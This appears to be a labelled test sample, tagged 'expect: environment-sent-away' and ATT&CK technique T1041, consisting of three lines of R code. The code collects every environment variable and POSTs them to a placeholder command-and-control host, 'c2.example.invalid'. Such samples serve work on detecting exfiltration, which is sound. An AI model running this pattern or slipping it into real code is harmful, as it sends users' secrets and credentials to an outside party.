# expect: environment-sent-away | source: T1041
v <- paste(capture.output(Sys.getenv()), collapse = "\n")
h <- curl::new_handle(postfields = v)
curl::curl_fetch_memory("https://c2.example.invalid/", handle = h)
